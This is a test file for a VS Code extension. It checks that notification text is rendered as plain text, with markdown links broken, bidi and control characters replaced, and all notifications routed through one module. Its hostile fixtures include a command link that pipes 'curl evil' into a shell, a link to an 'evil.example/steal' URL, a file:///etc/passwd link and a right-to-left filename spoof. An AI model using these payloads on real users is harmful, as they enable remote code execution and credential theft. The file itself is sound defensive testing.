/** Text from a repository or a server never becomes a link in a notification. */
import * as assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import * as path from 'node:path';
import { VSCODE_NOTIFICATION_LINK, plainText } from '../../src/core/plainText';

const links = (text: string) => [...text.matchAll(VSCODE_NOTIFICATION_LINK)];

describe('plain text for notifications', () => {
  const hostile = [
    '[Collect](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
    'batch_[x](https://evil.example/steal)',
    '[open](file:///etc/passwd "title")',
    '[a] (command:x)',
    'icon[2x](command:workbench.action.reloadWindow).png',
  ];

  it('breaks every link VS Code would draw, and still reads the same', () => {
    for (const text of hostile) {
      assert.ok(links(text).length > 0 || text.includes('] ('), `the sample is a link: ${text}`);
      const shown = plainText(text);
      assert.equal(links(shown).length, 0, shown);
      assert.equal(shown.replace(/\u200b/g, ''), text, 'only an invisible space is added');
    }
  });

  it('holds across pieces joined by a message template', () => {
    const message = `Created ${'[x]'}${'(command:evil)'}`;
    assert.equal(links(plainText(message)).length, 0);
  });

  it('replaces control and bidi characters that would make a name read as another', () => {
    assert.equal(plainText('evil\u202egnp.exe'), 'evil\ufffdgnp.exe');
    assert.equal(plainText('a\u0000b\nc'), 'a\ufffdb\nc');
  });

  it('leaves ordinary text alone', () => {
    for (const text of ['Created art/icon-1.png', 'icon[2x].png', 'café (draft).png', '$0.50 for 2 image(s)']) assert.equal(plainText(text), text);
  });
});

describe('the one way to show a notification', () => {
  const root = path.join(__dirname, '../../src');
  const files = (directory: string): string[] =>
    readdirSync(directory).flatMap((name) => {
      const file = path.join(directory, name);
      return statSync(file).isDirectory() ? files(file) : file.endsWith('.ts') ? [file] : [];
    });

  it('calls show*Message and withProgress only in platform/notify.ts, which passes every text through plainText', () => {
    const offenders = files(root)
      .filter((file) => !file.endsWith(path.join('platform', 'notify.ts')))
      .flatMap((file) =>
        readFileSync(file, 'utf8')
          .split('\n')
          .map((line, index) => ({ file: path.relative(root, file), line: index + 1, text: line }))
          .filter(({ text }) => /\bshow(Information|Warning|Error)Message\b|\bwithProgress\s*\(/.test(text)),
      );
    assert.deepEqual(offenders, []);
    const notify = readFileSync(path.join(root, 'platform', 'notify.ts'), 'utf8');
    assert.match(notify, /const text = plainText\(message\)/);
    assert.match(notify, /detail: first\.detail === undefined \? undefined : plainText\(first\.detail\)/);
    assert.match(notify, /title: plainText\(title\)/);
  });
});
